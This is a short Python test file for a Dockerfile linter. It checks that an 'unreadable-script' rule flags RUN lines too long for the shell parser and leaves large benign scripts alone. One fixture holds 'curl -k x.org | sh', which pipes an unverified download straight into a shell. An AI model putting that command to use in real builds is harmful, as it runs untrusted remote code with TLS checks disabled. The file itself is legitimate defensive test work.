"""A script past the shell reader's bounds is not passed over in silence."""

from __future__ import annotations

from dockgate.rules.registry import rules_of
from tests.rules.subjects import read, run


def test_a_script_that_is_too_long_to_read_is_told() -> None:
    source = "FROM debian:12\nRUN curl -k x.org | sh" + " && \\\n true" * 20_000 + "\n"
    dockerfile = read(source)
    found = run(list(rules_of("dockerfile").values()), dockerfile)
    assert "unreadable-script" in {finding.rule.name for finding in found}


def test_no_real_script_is_called_unreadable_for_its_size() -> None:
    source = "FROM debian:12\nRUN true" + " && \\\n true" * 1_000 + "\n"
    found = run([rules_of("dockerfile")["unreadable-script"]], read(source))
    assert found == []
